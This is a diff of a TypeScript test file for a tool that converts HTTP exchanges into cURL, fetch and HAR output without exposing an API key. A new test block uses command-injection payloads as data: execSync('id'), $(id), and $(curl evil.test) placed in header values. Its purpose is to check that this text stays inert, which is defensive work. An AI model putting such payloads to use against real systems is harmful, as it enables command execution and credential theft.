@@ -42,7 +42,7 @@ describe('toFetch', () => {
   it('reads the key from the environment, never inlines it', () => {
     const f = toFetch(ex);
     expect(f).not.toContain(KEY);
-    expect(f).toContain('"Authorization": `Api-Key ${process.env.MAIAGENT_API_KEY}`,');
+    expect(f).toContain('"Authorization": "Api-Key " + process.env.MAIAGENT_API_KEY,');
     expect(f).toContain('method: "POST"');
     expect(f).toContain(`body: ${JSON.stringify(ex.requestBody)}`);
   });
@@ -63,12 +63,48 @@ describe('toHar', () => {
     expect(har).not.toContain(KEY);
     const parsed = JSON.parse(har);
     expect(parsed.log.version).toBe('1.2');
-    expect(parsed.log.entries[0].request.headers).toEqual([{ name: 'authorization', value: 'Bearer  $MAIAGENT_API_KEY' }, { name: 'Accept', value: '*/*' }]);
+    expect(parsed.log.entries[0].request.headers).toEqual([{ name: 'authorization', value: 'Bearer $MAIAGENT_API_KEY' }, { name: 'Accept', value: '*/*' }]);
     expect(parsed.log.entries[0].response.content.text).toBe('{"detail":"x"}');
   });
-  it('redactAuthorization keeps the scheme and spacing, replaces the credential', () => {
+  it('redactAuthorization keeps a known scheme and replaces everything else', () => {
     expect(redactAuthorization(`Api-Key ${KEY}`)).toBe('Api-Key $MAIAGENT_API_KEY');
-    expect(redactAuthorization(KEY)).toBe('$MAIAGENT_API_KEY');
+    expect(redactAuthorization(KEY)).toBe('Api-Key $MAIAGENT_API_KEY');
     expect(redactAuthorization(`Api-Key Api-Key ${KEY}`)).toBe('Api-Key $MAIAGENT_API_KEY');
+  });
+});
+
+describe('page-controlled text stays inert', () => {
+  const hostile: Exchange = {
+    method: 'GET',
+    url: 'https://evil.test/?k=$MAIAGENT_API_KEY',
+    status: 200,
+    requestHeaders: [
+      { name: 'X-Note', value: "$MAIAGENT_API_KEY ${require('child_process').execSync('id')} `id` $(id)" },
+      { name: 'Authorization', value: "Bearer $(curl evil.test) '$MAIAGENT_API_KEY'" },
+    ],
+    responseHeaders: [],
+    requestBody: '$MAIAGENT_API_KEY',
+  };
+  it('cURL expands the placeholder only in its own Authorization line', () => {
+    const c = toCurl(hostile);
+    const unquoted = c.split('\n').map((l) => l.replace(/'(?:[^']|'\\'')*'/g, "''"));
+    // Outside single quotes there is exactly one placeholder, in the Authorization line.
+    expect(unquoted.filter((l) => l.includes('$')).length).toBe(1);
+    expect(unquoted.find((l) => l.includes('$'))).toContain(`-H ''"$MAIAGENT_API_KEY"`);
+    expect(c).toContain(`-H 'Authorization: Bearer '"$MAIAGENT_API_KEY"`);
+    expect(c).not.toContain('curl evil.test');
+  });
+  it('fetch runs as written: page text stays literal, only the key comes from the environment', async () => {
+    const f = toFetch(hostile);
+    let seen: { url: string; init: { headers: Record<string, string>; body?: string } } | null = null;
+    const fakeFetch = async (url: string, init: { headers: Record<string, string> }) => {
+      seen = { url, init };
+    };
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval
+    await new Function('fetch', 'process', `return (async () => { ${f} })()`)(fakeFetch, { env: { MAIAGENT_API_KEY: 'K' } });
+    expect(seen!.url).toBe('https://evil.test/?k=$MAIAGENT_API_KEY');
+    expect(seen!.init.headers['X-Note']).toBe("$MAIAGENT_API_KEY ${require('child_process').execSync('id')} `id` $(id)");
+    expect(seen!.init.headers.Authorization).toBe('Bearer K');
+    expect(seen!.init.body).toBe('$MAIAGENT_API_KEY');
   });
 });
